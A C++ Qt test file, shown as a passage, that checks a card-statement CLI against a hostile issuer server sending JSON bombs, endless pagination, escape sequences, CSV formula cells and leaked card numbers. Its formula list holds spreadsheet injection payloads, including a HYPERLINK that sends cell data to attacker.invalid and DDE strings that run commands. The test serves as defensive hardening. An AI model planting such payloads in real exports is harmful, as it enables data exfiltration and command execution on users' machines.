// An issuer written to attack Meisai (hostile-issuer.mjs: a small TLS server
// with just enough OAuth to be linked through a profile file) is tried in turn
// with a nesting bomb and a number bomb just under the 8 MiB response limit,
// endless page chains (the same nextItemKey forever, and ever-new keys),
// absurd amounts, error bodies full of escape sequences, control and bidi
// characters in every text field, formula cells and a full card number in
// names and identifiers. Every time, meisai-cli must end within a bound and
// within 300 MB, say clearly which issuer failed (refusals) or store the
// sanitised data (exit 0), print nothing raw to the terminal, write CSV that
// a spreadsheet will not run, keep the card number out of its output and its
// vault, and the bundled sandbox, linked beside it as a control issuer, must
// still sync.

#include "CliSandbox.h"
#include "SqlCipherPages.h"
#include "TempProfile.h"
#include "TestCertificates.h"

#include "vault/Profile.h"
#include "vault/VaultKey.h"

#include <QCryptographicHash>
#include <QDeadlineTimer>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QNetworkAccessManager>
#include <QNetworkReply>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QSslConfiguration>
#include <QStringDecoder>
#include <QTemporaryDir>
#include <QTest>
#include <QUrlQuery>

#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstring>

#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

using namespace meisai;
using namespace meisai::test;

namespace {

const QString kHostile = QStringLiteral("hostile-card");
const QString kHostileName = QStringLiteral("Hostile Card");
const QString kControl = QStringLiteral("hoshizora-card");
// A hang detector, not a timing test: an endless page chain stopped by the
// cap of 1,000 pages takes about 20 s on the 2-core machine (about 20 ms a
// page, each committed with its cursor), the other attacks a second or two;
// the margin is for a machine busy with other tests.
// Under AddressSanitizer (./run test --sanitize) everything runs several
// times slower and every allocation carries shadow memory and redzones: the
// bounds grow with it, and the child's address space is not capped (ASan
// reserves terabytes of address space for its shadow).
#ifdef __SANITIZE_ADDRESS__
constexpr int kSanitizerFactor = 4;
#else
constexpr int kSanitizerFactor = 1;
#endif
constexpr int kBoundMs = 45000 * kSanitizerFactor;
constexpr qint64 kMemoryBound = (300LL << 20) * kSanitizerFactor; // bytes

// The formula payloads the hostile issuer sends (hostile-issuer.mjs, FORMULAS).
const QStringList kFormulas = {QStringLiteral("=HYPERLINK(\"http://attacker.invalid/?d=\"&A1,\"Click\")"),
                               QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("-1+1"),
                               QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0")};

// text with every control character written as \u{XX}, for failure messages.
QString visible(const QString& text)
{
    QString out;
    for (const char32_t c : QStringView(text).toUcs4()) {
        if ((c < 0x20 && c != u'\n') || (c >= 0x7F && c <= 0x9F) || (c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069)
            || c == 0x2028 || c == 0x2029 || (c >= 0xD800 && c <= 0xDFFF))
            out += QStringLiteral("\\u{%1}").arg(uint(c), 0, 16);
        else
            out += QString::fromUcs4(&c, 1);
    }
    return out;
}

// What a terminal would act on: C0 controls but tab and line feed (and, in
// CSV, the CR of a CRLF record end), DEL, C1 controls (U+009B is CSI), the
// bidi embeddings, overrides, isolates and marks, and the line and paragraph
// separators. Bytes that are not UTF-8
// (a lone 0x9B is CSI to a Latin-1 terminal) count too. Empty when clean.
QString rawTerminalControl(const QByteArray& bytes, bool csv)
{
    QStringDecoder decoder(QStringDecoder::Utf8, QStringDecoder::Flag::Stateless);
    const QString text = decoder.decode(bytes);
    if (decoder.hasError())
        return QStringLiteral("bytes that are not UTF-8");
    const QList<uint> ucs4 = text.toUcs4();
    for (qsizetype i = 0; i < ucs4.size(); ++i) {
        const uint c = ucs4.at(i);
        if (c == u'\n' || c == u'\t')
            continue;
        if (csv && c == u'\r' && i + 1 < ucs4.size() && ucs4.at(i + 1) == u'\n')
            continue;
        const bool control = c < 0x20 || (c >= 0x7F && c <= 0x9F);
        const bool bidi = (c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069) || c == 0x200E || c == 0x200F
                          || c == 0x061C || c == 0x2028 || c == 0x2029;
        if (control || bidi || c == 0xFFFE || c == 0xFFFF)
            return QStringLiteral("U+%1 at character %2: …%3…")
                .arg(c, 4, 16, QLatin1Char('0'))
                .arg(i)
                .arg(visible(text.mid(qMax<qsizetype>(0, i - 30), 60)));
    }
    return {};
}

// The peak memory of one meisai-cli run. QProcess reaps its children itself
// (forkfd), so their rusage is not ours to read per run, and
// RUSAGE_CHILDREN's ru_maxrss is only the largest of all children so far. So
// each measured run goes through this test executable started again as a
// wrapper (--measure-child FILE PROGRAM ARGS…): it forks, the child execs
// meisai-cli (and dies with the wrapper, PR_SET_PDEATHSIG, so a timed-out
// run is really killed), the wrapper wait4()s for it, writes ru_maxrss (KiB)
// to FILE and ends as the child ended. stdin, stdout and stderr are the
// child's, untouched. The child's address space is capped at 2 GiB, so that a
// run that has already failed the bound cannot take a shared machine down.
int measureChild(const char* file, char** argv)
{
    const pid_t parent = ::getpid();
    const pid_t pid = ::fork();
    if (pid < 0)
        return 126;
    if (pid == 0) {
        if (::prctl(PR_SET_PDEATHSIG, SIGKILL) != 0 || ::getppid() != parent)
            ::_exit(126);
        if (kSanitizerFactor == 1) {
            const rlimit cap{rlim_t(2) << 30, rlim_t(2) << 30};
            if (::setrlimit(RLIMIT_AS, &cap) != 0)
                ::_exit(126);
        }
        ::execv(argv[0], argv);
        ::_exit(127);
    }
    int status = 0;
    rusage usage{};
    while (::wait4(pid, &status, 0, &usage) < 0) {
        if (errno != EINTR)
            return 126;
    }
    if (FILE* out = std::fopen(file, "w")) {
        std::fprintf(out, "%ld\n", usage.ru_maxrss);
        std::fclose(out);
    }
    if (WIFSIGNALED(status)) {
        std::signal(WTERMSIG(status), SIG_DFL);
        ::raise(WTERMSIG(status));
    }
    return WIFEXITED(status) ? WEXITSTATUS(status) : 126;
}

struct Measured
{
    CliResult cli;
    qint64 elapsedMs = 0;
    qint64 peakRss = -1; // bytes, ru_maxrss of the meisai-cli process
};

} // namespace

class TestHostileIssuer final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_files.isValid());
        QVERIFY2(m_certs.isValid(), qPrintable(m_certs.error()));
        m_ssl = QSslConfiguration::defaultConfiguration();
        m_ssl.addCaCertificates(QSslCertificate::fromPath(m_certs.caPath()));

        m_node = std::make_unique<QProcess>();
        m_node->setProcessChannelMode(QProcess::SeparateChannels);
        m_node->start(QStringLiteral("node"),
                      {qEnvironmentVariable("MEISAI_SOURCE_DIR") + QStringLiteral("/tests/hostile/hostile-issuer.mjs"),
                       QStringLiteral("--cert"), m_certs.certPath(), QStringLiteral("--key"), m_certs.keyPath()});
        QVERIFY2(m_node->waitForStarted(10000), qPrintable(QStringLiteral("node: ") + m_node->errorString()));
        QJsonObject ready;
        QDeadlineTimer deadline(20000);
        while (ready.isEmpty() && !deadline.hasExpired() && m_node->state() == QProcess::Running) {
            if (!m_node->canReadLine())
                m_node->waitForReadyRead(200);
            while (m_node->canReadLine())
                ready = QJsonDocument::fromJson(m_node->readLine()).object();
        }
        QVERIFY2(ready.value(QStringLiteral("ready")).toBool(), m_node->readAllStandardError().constData());
        m_issuer = QUrl(ready.value(QStringLiteral("issuer")).toString());
        m_adminToken = ready.value(QStringLiteral("admin_token")).toString().toLatin1();
        QVERIFY(!m_adminToken.isEmpty());
        QVERIFY(admin("GET", QStringLiteral("/admin/stats")).contains(QStringLiteral("mode")));
        // The admin path wants its token.
        QCOMPARE(http("POST", m_issuer.resolved(QUrl(QStringLiteral("/admin/mode"))), "{\"mode\":\"pan\"}").status, 403);
        QVERIFY(setMode(QStringLiteral("clean")));
        QVERIFY(m_pan.size() == 16 && luhnValid(m_pan));

        m_sandbox = std::make_unique<SandboxProcess>(QStringList{QStringLiteral("--transactions-per-card"), QStringLiteral("20")});
        QVERIFY2(m_sandbox->isReady(), qPrintable(m_sandbox->errorString()));
        m_cli = std::make_unique<CliRunner>(m_profile.dir());

        // The control issuer: the sandbox's hoshizora-card, as published.
        const SandboxProcess::Issuer h = m_sandbox->issuer(kControl);
        CliResult add = m_cli->run({QStringLiteral("issuer"), QStringLiteral("add"), QStringLiteral("--discovery"),
                                    h.discovery.toString(), QStringLiteral("--client-id"), h.clientId,
                                    QStringLiteral("--ca"), m_sandbox->caPath()});
        QVERIFY2(add.exitCode == 0, add.describe());
        LinkResult link = linkWithBrowser(*m_sandbox, *m_cli, kControl);
        QVERIFY2(link.ok(), qPrintable(link.why + QString::fromUtf8(link.cli.describe())));
        m_controlConnection = 1;

        // The hostile issuer: a profile file with its CA beside it.
        const QString file = writeProfileFile();
        QVERIFY(!file.isEmpty());
        CliResult imported = m_cli->run({QStringLiteral("--language"), QStringLiteral("en"), QStringLiteral("issuer"),
                                         QStringLiteral("import"), file});
        QVERIFY2(imported.exitCode == 0, imported.describe());
        QString why;
        QVERIFY2(linkHostile(&why), qPrintable(why));
        m_hostileConnection = 2;
        QCOMPARE(connection(m_hostileConnection).value(QStringLiteral("issuerId")).toString(), kHostile);
        QCOMPARE(connection(m_controlConnection).value(QStringLiteral("issuerId")).toString(), kControl);

        // Well behaved first: both sync, and the hostile issuer's items are there.
        const Measured first = syncAll();
        QVERIFY2(first.cli.exitCode == 0, first.cli.describe());
        QCOMPARE(transactionsOf(m_hostileConnection).size(), 3);
        QVERIFY(!transactionsOf(m_controlConnection).isEmpty());
    }

    void cleanupTestCase()
    {
        if (m_node) {
            m_node->terminate();
            if (!m_node->waitForFinished(5000))
                m_node->kill();
        }
    }

    // Answers Meisai must refuse: the sync of the hostile issuer fails with a
    // message naming it, within the bound, and stores nothing absurd.
    void refusedAttack_data()
    {
        QTest::addColumn<QString>("mode");
        QTest::addColumn<QString>("expected"); // a word the message must hold besides the issuer's name
        QTest::newRow("nesting bomb just under 8 MiB") << QStringLiteral("bomb-nesting") << QStringLiteral("/v1/cards");
        QTest::newRow("number bomb just under 8 MiB") << QStringLiteral("bomb-numbers") << QStringLiteral("/v1/cards");
        QTest::newRow("merchant name of nearly 8 MiB") << QStringLiteral("bomb-string") << QStringLiteral("/transactions");
        QTest::newRow("endless pages, the same nextItemKey") << QStringLiteral("pages-same-key") << QString();
        QTest::newRow("endless pages, ever-new keys") << QStringLiteral("pages-new-keys") << QString();
        QTest::newRow("amount 1e300") << QStringLiteral("amount-1e300") << QStringLiteral("amount");
        QTest::newRow("amount -9223372036854775809") << QStringLiteral("amount-below-int64") << QStringLiteral("amount");
        QTest::newRow("amount \"12abc\"") << QStringLiteral("amount-string") << QStringLiteral("amount");
        QTest::newRow("amount 2^53+1") << QStringLiteral("amount-2p53") << QStringLiteral("amount");
        QTest::newRow("statement total -1e300") << QStringLiteral("amount-statement") << QStringLiteral("totalBilledAmount");
        QTest::newRow("error bodies full of escapes") << QStringLiteral("control-errors") << QString();
    }
    void refusedAttack()
    {
        QFETCH(QString, mode);
        QFETCH(QString, expected);
        // Each attack starts from a connection that has just synced well (alerts resolved, no page chain half read).
        QVERIFY(setMode(QStringLiteral("clean")));
        const Measured before = syncAll();
        QVERIFY2(before.cli.exitCode == 0, before.cli.describe());
        const qsizetype storedBefore = transactionsOf(m_hostileConnection).size();
        const int alertsBefore = openAlertsOf(kHostile);
        QVERIFY(setMode(mode));
        const Measured m = syncAll();
        const QJsonObject requests = serverRequests();
        qInfo("%s: the issuer saw %s", qPrintable(mode), QJsonDocument(requests).toJson(QJsonDocument::Compact).constData());
        QVERIFY(setMode(QStringLiteral("clean")));

        QByteArray why;
        QVERIFY2(bounded(m, &why), why.constData());
        QVERIFY2(m.cli.exitCode != 0, QByteArray("the attack was taken for a good answer: " + m.cli.out).constData());
        QVERIFY2(m.cli.exitCode == 3, m.cli.describe()); // an issuer's bad answer
        // A clear message: on stderr, naming the issuer and its connection, one line, no stack of JSON.
        const QString err = m.cli.errText();
        const QString prefix = QStringLiteral("meisai-cli: %1 #%2: ").arg(kHostileName).arg(m_hostileConnection);
        QVERIFY2(err.contains(prefix), qPrintable(err));
        const QString message = err.mid(err.indexOf(prefix)).section(u'\n', 0, 0);
        qInfo("%s: %s", qPrintable(mode), qPrintable(visible(message)));
        QVERIFY2(message.size() < 600, qPrintable(message));
        if (!expected.isEmpty())
            QVERIFY2(message.contains(expected), qPrintable(message));
        // stdout says which connection failed and that the other one completed.
        QVERIFY2(m.cli.outText().contains(QStringLiteral("%1 #%2: ").arg(kHostileName).arg(m_hostileConnection)), m.cli.out.constData());
        QVERIFY2(m.cli.outText().contains(QStringLiteral(" #%1: completed").arg(m_controlConnection)), m.cli.out.constData());

        // Nothing absurd stored; what was stored before (and, for the page chains, on the way) is kept.
        const QJsonArray stored = transactionsOf(m_hostileConnection);
        QVERIFY(stored.size() >= storedBefore);
        const bool absurdPage = mode.startsWith(QLatin1String("amount-")) && mode != u"amount-statement";
        for (const QJsonValue& v : stored) {
            const QJsonObject t = v.toObject();
            QVERIFY2(!absurdPage || !t.value(QStringLiteral("transactionId")).toString().startsWith(QStringLiteral("tx-%1-").arg(mode)),
                     "a page with an absurd amount was stored in part");
            QVERIFY(qAbs(t.value(QStringLiteral("amount")).toDouble()) < 1e12);
            QVERIFY(t.value(QStringLiteral("merchantName")).toString().size() < 1000);
        }
        for (const QJsonValue& v :
             m_cli->run({QStringLiteral("statements"), QStringLiteral("--format"), QStringLiteral("json")}).json())
            QVERIFY(qAbs(v.toObject().value(QStringLiteral("totalBilledAmount")).toDouble()) < 1e12);
        if (mode.startsWith(QLatin1String("pages-"))) {
            // The guard ended the chain (not the bound), with an alert saying so.
            QVERIFY2(stored.size() > storedBefore, "the pages stored before the chain was cut are gone");
            QVERIFY2(openAlertsOf(kHostile) > alertsBefore, "no alert for the endless page chain");
        }
        QVERIFY2(listingsClean(&why), why.constData());
        QVERIFY2(controlStillSyncs(&why), why.constData());
    }

    // Control and bidi characters in every text field: stored, but never reaching the terminal raw.
    void dirtyTextIsShownSanitised()
    {
        QVERIFY(setMode(QStringLiteral("control")));
        const Measured m = syncAll();
        QByteArray why;
        QVERIFY2(bounded(m, &why), why.constData());
        QVERIFY2(m.cli.exitCode == 0, m.cli.describe());
        QVERIFY2(listingsClean(&why), why.constData());
        // The item is there, the printable part of its text too (sanitised, not dropped).
        const CliResult table = m_cli->run({QStringLiteral("transactions"), QStringLiteral("--connection"),
                                            QString::number(m_hostileConnection)});
        QVERIFY2(table.outText().contains(QStringLiteral("OVERWRITE")), table.out.constData());
        // The security notice became an alert whose text is clean.
        const CliResult alerts = m_cli->run({QStringLiteral("alerts")});
        QVERIFY2(alerts.outText().contains(QStringLiteral("pwned-title")), alerts.out.constData());
        // The public profile (names, contacts, hours) as issuer add reads and prints it.
        const CliResult probe = m_cli->run({QStringLiteral("--language"), QStringLiteral("en"), QStringLiteral("issuer"),
                                            QStringLiteral("add"), QStringLiteral("--discovery"),
                                            discoveryUrl(),
                                            QStringLiteral("--client-id"), QStringLiteral("meisai-desktop"),
                                            QStringLiteral("--ca"), m_certs.caPath(), QStringLiteral("--id"),
                                            QStringLiteral("hostile-probe"), QStringLiteral("--draft"),
                                            m_files.filePath(QStringLiteral("draft.json"))},
                                           kBoundMs);
        QVERIFY2(!probe.timedOut && !probe.crashed, probe.describe());
        QVERIFY2(clean(probe, false, &why), why.constData());
        QVERIFY(setMode(QStringLiteral("clean")));
        QVERIFY2(controlStillSyncs(&why), why.constData());
    }

    // Formula cells: every CSV cell of issuer text that a spreadsheet would evaluate is neutralised.
    void formulaCellsAreNeutralised()
    {
        QVERIFY(setMode(QStringLiteral("formula")));
        const Measured m = syncAll();
        QByteArray why;
        QVERIFY2(bounded(m, &why), why.constData());
        QVERIFY2(m.cli.exitCode == 0, m.cli.describe());
        QVERIFY(setMode(QStringLiteral("clean")));
        static const QRegularExpression plainNumber(QStringLiteral("^-?[0-9]+(\\.[0-9]+)?$"));
        QStringList found;
        QByteArray raw; // checked last, so that a failure here says first what it is about
        for (const QString& what : {QStringLiteral("transactions"), QStringLiteral("statements"), QStringLiteral("alerts")}) {
            const CliResult r = m_cli->run({what, QStringLiteral("--format"), QStringLiteral("csv")});
            QVERIFY2(r.exitCode == 0, r.describe());
            if (raw.isEmpty() && !clean(r, true, &why))
                raw = what.toUtf8() + " --format csv: " + why;
            QList<QStringList> records;
            QString error;
            QVERIFY2(parseCsv(r.out, &records, &error), qPrintable(what + QStringLiteral(": ") + error));
            for (const QStringList& record : std::as_const(records)) {
                for (const QString& cell : record) {
                    // A number of the listing itself (an amount, -1200) is data, not a formula.
                    if (cell.isEmpty() || plainNumber.match(cell).hasMatch())
                        continue;
                    const QChar first = cell.at(0);
                    QVERIFY2(!QStringView(u"=+-@\t\r").contains(first),
                             qPrintable(what + QStringLiteral(": a cell a spreadsheet would evaluate: ") + visible(cell)));
                    for (const QString& f : kFormulas)
                        if (cell.contains(f))
                            found << f;
                }
            }
        }
        // Each payload is still there, shown as text (neutralised, not dropped).
        for (const QString& f : kFormulas)
            QVERIFY2(found.contains(f), qPrintable(QStringLiteral("not in any CSV cell: ") + f));
        QVERIFY2(raw.isEmpty(), raw.constData());
        QVERIFY2(controlStillSyncs(&why), why.constData());
    }

    // A full card number in card names, merchant names and card and transaction ids.
    void fullCardNumberAppearsNowhere()
    {
        const QByteArray pan = m_pan.toLatin1();
        const QByteArray grouped = pan.mid(0, 4) + '-' + pan.mid(4, 4) + '-' + pan.mid(8, 4) + '-' + pan.mid(12);
        // What the unkeyed fingerprint of an identifier would be: with the
        // masked number's first six and last four digits, the rest is a few
        // million guesses away, so it must not be stored or shown.
        QList<QByteArray> unkeyed;
        for (const QByteArray& id : QList<QByteArray>{pan, QByteArray("tx-") + pan})
            unkeyed << QCryptographicHash::hash(id, QCryptographicHash::Sha256).toHex().left(16);

        QVERIFY(setMode(QStringLiteral("pan")));
        const Measured m = syncAll();
        QVERIFY(setMode(QStringLiteral("clean")));
        QByteArray why;
        QVERIFY2(bounded(m, &why), why.constData());
        QVERIFY2(m.cli.exitCode == 0, m.cli.describe()); // the number is dropped, the sync goes on
        QByteArray shown = m.cli.out + m.cli.err;
        for (const QStringList& args : QList<QStringList>{
                 {QStringLiteral("transactions")},
                 {QStringLiteral("transactions"), QStringLiteral("--format"), QStringLiteral("csv")},
                 {QStringLiteral("transactions"), QStringLiteral("--format"), QStringLiteral("json")},
                 {QStringLiteral("statements"), QStringLiteral("--format"), QStringLiteral("json")},
                 {QStringLiteral("alerts"), QStringLiteral("--all")},
                 {QStringLiteral("alerts"), QStringLiteral("--all"), QStringLiteral("--format"), QStringLiteral("json")},
                 {QStringLiteral("audit"), QStringLiteral("--limit"), QStringLiteral("0")}}) {
            const CliResult r = m_cli->run(args);
            QVERIFY2(r.exitCode == 0, qPrintable(args.join(u' ') + QString::fromUtf8(r.describe())));
            shown += r.out + r.err;
        }
        QVERIFY2(!shown.contains(pan) && !shown.contains(grouped), "the full card number was shown");
        // The items are stored (the numbers masked or the ids replaced), and the user is told.
        const QJsonArray stored = transactionsOf(m_hostileConnection);
        bool merchantStored = false;
        for (const QJsonValue& v : stored)
            merchantStored |= v.toObject().value(QStringLiteral("merchantName")).toString().startsWith(QStringLiteral("Shop ")) &&
                              v.toObject().value(QStringLiteral("merchantName")).toString().endsWith(m_pan.right(4));
        QVERIFY2(merchantStored, "the item with the number in its merchant name is not stored masked");
        bool alerted = false;
        for (const QJsonValue& v : m_cli->run({QStringLiteral("alerts"), QStringLiteral("--format"), QStringLiteral("json")}).json())
            alerted |= v.toObject().value(QStringLiteral("kind")).toString() == u"pan_received"
                       && v.toObject().value(QStringLiteral("issuerId")).toString() == kHostile;
        QVERIFY2(alerted, "no pan_received alert for the hostile issuer");

        // Nor in the vault: every page of the database and its WAL, decrypted.
        auto profile = Profile::load(m_profile.dir());
        QVERIFY(profile.ok());
        auto key = Keychain::read(profile->id());
        QVERIFY2(key.ok(), key.ok() ? "" : qPrintable(key.error().message));
        const QByteArray plain = decryptSqlCipherPages(profile->databasePath(), *key);
        QVERIFY(plain.contains("cards:read")); // really decrypted
        QVERIFY2(!plain.contains(pan) && !plain.contains(grouped), "the card number is in the vault");
        static const QRegularExpression run(QStringLiteral("(?<!\\d)\\d{13,19}(?!\\d)"));
        // A fingerprint is 32 hex digits of an HMAC: a run of decimal digits in
        // it (one in a few hundred holds a Luhn-valid one) is not a card number.
        static const QRegularExpression fingerprint(QStringLiteral("redacted-k1-[0-9a-f]{32}"));
        auto it = run.globalMatch(QString::fromLatin1(plain).remove(fingerprint));
        while (it.hasNext()) {
            const QString number = it.next().captured();
            QVERIFY2(!luhnValid(number), qPrintable(QStringLiteral("a card number is in the vault: ") + number.left(4)));
        }
        // Last, as the subtler leak: a fingerprint anyone can recompute.
        for (const QByteArray& h : std::as_const(unkeyed)) {
            QVERIFY2(!shown.contains(h), QByteArray("an unkeyed fingerprint of the card number was shown: " + h).constData());
            QVERIFY2(!plain.contains(h), QByteArray("an unkeyed fingerprint of the card number is in the vault: " + h).constData());
        }
        QVERIFY2(controlStillSyncs(&why), why.constData());
    }

    // Last, since the issuer then ends the grant: an API that says the token
    // is no longer valid and a token endpoint that refuses the refresh, both
    // with escape sequences in error_description.
    void refusedRefreshWithEscapesIsReportedClean()
    {
        QVERIFY(setMode(QStringLiteral("token-errors")));
        const Measured m = syncAll();
        const QJsonObject requests = serverRequests();
        QByteArray why;
        QVERIFY2(bounded(m, &why), why.constData());
        QVERIFY2(requests.value(QStringLiteral("token")).toInt() >= 1, "the expired token was not refreshed");
        QVERIFY2(m.cli.exitCode == 4, m.cli.describe()); // the grant is gone: link again
        QVERIFY2(m.cli.errText().contains(kHostileName), m.cli.err.constData());
        QCOMPARE(connection(m_hostileConnection).value(QStringLiteral("status")).toString(), QStringLiteral("needs_reconnect"));
        QVERIFY2(controlStillSyncs(&why), why.constData());
        QVERIFY2(listingsClean(&why), why.constData()); // the last error is shown by connections
    }

private:
    TestCertificates m_certs;
    QTemporaryDir m_files;
    std::unique_ptr<QProcess> m_node;
    QUrl m_issuer;
    QByteArray m_adminToken;
    QString m_pan;
    std::unique_ptr<SandboxProcess> m_sandbox;
    TempProfile m_profile;
    std::unique_ptr<CliRunner> m_cli;
    QSslConfiguration m_ssl;
    QNetworkAccessManager m_net;
    qint64 m_controlConnection = 0;
    qint64 m_hostileConnection = 0;
    int m_runs = 0;

    struct Reply
    {
        int status = 0;
        QByteArray body;
        QByteArray location;
        QString error;
    };

    Reply http(const QByteArray& method, const QUrl& url, const QByteArray& body = {},
               const QList<QPair<QByteArray, QByteArray>>& headers = {})
    {
        QNetworkRequest request(url);
        request.setSslConfiguration(m_ssl);
        request.setAttribute(QNetworkRequest::RedirectPolicyAttribute, QNetworkRequest::ManualRedirectPolicy);
        request.setTransferTimeout(15000);
        for (const auto& h : headers)
            request.setRawHeader(h.first, h.second);
        QNetworkReply* reply = m_net.sendCustomRequest(request, method, body);
        QSignalSpy done(reply, &QNetworkReply::finished);
        if (!reply->isFinished())
            done.wait(20000);
        Reply r;
        r.status = reply->attribute(QNetworkRequest::HttpStatusCodeAttribute).toInt();
        r.location = reply->rawHeader("Location");
        r.body = reply->readAll();
        if (reply->error() != QNetworkReply::NoError && r.status == 0)
            r.error = reply->errorString();
        reply->deleteLater();
        return r;
    }

    QJsonObject admin(const QByteArray& method, const QString& path, const QJsonObject& body = {})
    {
        const Reply r = http(method, m_issuer.resolved(QUrl(path)), QJsonDocument(body).toJson(QJsonDocument::Compact),
                             {{"X-Admin-Token", m_adminToken}, {"Content-Type", "application/json"}});
        return r.status == 200 ? QJsonDocument::fromJson(r.body).object() : QJsonObject{};
    }

    bool setMode(const QString& mode)
    {
        const QJsonObject answer = admin("POST", QStringLiteral("/admin/mode"), {{QStringLiteral("mode"), mode}});
        if (m_pan.isEmpty())
            m_pan = answer.value(QStringLiteral("pan")).toString();
        return answer.value(QStringLiteral("mode")).toString() == mode;
    }

    QJsonObject serverRequests() { return admin("GET", QStringLiteral("/admin/stats")).value(QStringLiteral("requests")).toObject(); }

    // Runs meisai-cli like CliRunner::run, through measureChild, killed at kBoundMs.
    Measured measured(const QStringList& args)
    {
        Measured m;
        const QString rssFile = m_files.filePath(QStringLiteral("rss-%1").arg(++m_runs));
        QProcess p;
        p.setProcessEnvironment(m_cli->environment());
        p.setChildProcessModifier([] { ::setsid(); }); // no controlling terminal, as CliRunner
        p.setProgram(QCoreApplication::applicationFilePath());
        p.setArguments(QStringList{QStringLiteral("--measure-child"), rssFile, CliRunner::executablePath(),
                                   QStringLiteral("--profile-dir"), m_cli->profileDir()}
                       + args);
        QElapsedTimer timer;
        timer.start();
        p.start();
        if (!p.waitForStarted(10000)) {
            m.cli.err = p.errorString().toUtf8();
            return m;
        }
        p.closeWriteChannel();
        if (!p.waitForFinished(kBoundMs)) {
            m.cli.timedOut = true;
            p.kill();
            p.waitForFinished(5000);
        }
        m.elapsedMs = timer.elapsed();
        m.cli.out = p.readAllStandardOutput();
        m.cli.err = p.readAllStandardError();
        m.cli.crashed = p.exitStatus() == QProcess::CrashExit;
        m.cli.exitCode = m.cli.crashed ? -1 : p.exitCode();
        QFile rss(rssFile);
        if (rss.open(QIODevice::ReadOnly))
            m.peakRss = rss.readAll().trimmed().toLongLong() * 1024;
        qInfo("meisai-cli %s: exit %d in %lld ms, peak RSS %s", qPrintable(args.join(u' ')), m.cli.exitCode, m.elapsedMs,
              m.peakRss > 0 ? qPrintable(QStringLiteral("%1 MB").arg(double(m.peakRss) / 1048576.0, 0, 'f', 1))
                            : "unknown (killed)");
        return m;
    }

    // Within the bound in time and memory, no crash, nothing raw on the terminal.
    bool bounded(const Measured& m, QByteArray* why)
    {
        if (m.cli.timedOut || m.cli.crashed) {
            const QByteArray how = m.cli.timedOut
                                       ? QByteArray("still running after " + QByteArray::number(kBoundMs / 1000) + " s, killed")
                                       : QByteArray("crashed after " + QByteArray::number(m.elapsedMs) + " ms with a peak RSS of "
                                                    + QByteArray::number(m.peakRss >> 20) + " MB (the test caps it at 2 GiB)");
            *why = how + "; " + visible(QString::fromUtf8(m.cli.describe())).toUtf8();
            return false;
        }
        if (m.peakRss <= 0 || m.peakRss >= kMemoryBound) {
            *why = "peak memory " + QByteArray::number(double(m.peakRss) / 1048576.0) + " MB";
            return false;
        }
        return clean(m.cli, false, why);
    }

    static bool clean(const CliResult& r, bool csv, QByteArray* why)
    {
        if (const QString e = rawTerminalControl(r.out, csv); !e.isEmpty()) {
            *why = "stdout: " + e.toUtf8();
            return false;
        }
        if (const QString e = rawTerminalControl(r.err, false); !e.isEmpty()) {
            *why = "stderr: " + e.toUtf8();
            return false;
        }
        return true;
    }

    QJsonObject connection(qint64 id)
    {
        for (const QJsonValue& v : m_cli->run({QStringLiteral("connections"), QStringLiteral("--format"), QStringLiteral("json")}).json())
            if (v.toObject().value(QStringLiteral("id")).toInteger() == id)
                return v.toObject();
        return {};
    }

    QJsonArray transactionsOf(qint64 connectionId)
    {
        return m_cli->run({QStringLiteral("transactions"), QStringLiteral("--connection"), QString::number(connectionId),
                           QStringLiteral("--format"), QStringLiteral("json")})
            .json();
    }

    // The control issuer synced in the same run (no error recorded for it) and syncs again on its own.
    bool controlStillSyncs(QByteArray* why)
    {
        const QJsonObject c = connection(m_controlConnection);
        if (c.value(QStringLiteral("status")).toString() != u"active" || !c.value(QStringLiteral("lastError")).toString().isEmpty()) {
            *why = "the control connection after the attack: " + QJsonDocument(c).toJson(QJsonDocument::Compact);
            return false;
        }
        const CliResult r = m_cli->run({QStringLiteral("sync"), QString::number(m_controlConnection)}, kBoundMs);
        if (r.exitCode != 0) {
            *why = "the control issuer's sync: " + r.describe();
            return false;
        }
        if (transactionsOf(m_controlConnection).isEmpty()) {
            *why = "the control issuer's transactions are gone";
            return false;
        }
        return true;
    }

    // The listings a user would look at after a sync, each checked for raw controls.
    bool listingsClean(QByteArray* why)
    {
        const QList<QStringList> listings = {
            {QStringLiteral("transactions")},
            {QStringLiteral("transactions"), QStringLiteral("--format"), QStringLiteral("csv")},
            {QStringLiteral("statements")},
            {QStringLiteral("statements"), QStringLiteral("--format"), QStringLiteral("csv")},
            {QStringLiteral("alerts"), QStringLiteral("--all")},
            {QStringLiteral("alerts"), QStringLiteral("--all"), QStringLiteral("--format"), QStringLiteral("csv")},
            {QStringLiteral("connections")},
            {QStringLiteral("issuers")},
            // JSON is for programs, but it is printed to terminals too: escapes there are lossless.
            {QStringLiteral("transactions"), QStringLiteral("--format"), QStringLiteral("json")},
            {QStringLiteral("alerts"), QStringLiteral("--all"), QStringLiteral("--format"), QStringLiteral("json")},
            {QStringLiteral("connections"), QStringLiteral("--format"), QStringLiteral("json")},
        };
        for (const QStringList& args : listings) {
            const CliResult r = m_cli->run(QStringList{QStringLiteral("--language"), QStringLiteral("en")} + args, kBoundMs);
            if (r.exitCode != 0 || r.timedOut) {
                *why = args.join(u' ').toUtf8() + ": " + r.describe();
                return false;
            }
            if (!clean(r, args.contains(QStringLiteral("csv")), why)) {
                *why = args.join(u' ').toUtf8() + ": " + *why;
                return false;
            }
        }
        return true;
    }

    int openAlertsOf(const QString& issuerId)
    {
        int n = 0;
        for (const QJsonValue& v : m_cli->run({QStringLiteral("alerts"), QStringLiteral("--format"), QStringLiteral("json")}).json())
            n += v.toObject().value(QStringLiteral("issuerId")).toString() == issuerId ? 1 : 0;
        return n;
    }

    Measured syncAll()
    {
        return measured({QStringLiteral("--language"), QStringLiteral("en"), QStringLiteral("sync"),
                         QStringLiteral("--retry-wait-cap-ms"), QStringLiteral("20")});
    }

    // meisai-cli link: the authorization URL from its first line, the hostile
    // issuer's approval (an immediate redirect), the redirect delivered to the
    // loopback listener.
    bool linkHostile(QString* why)
    {
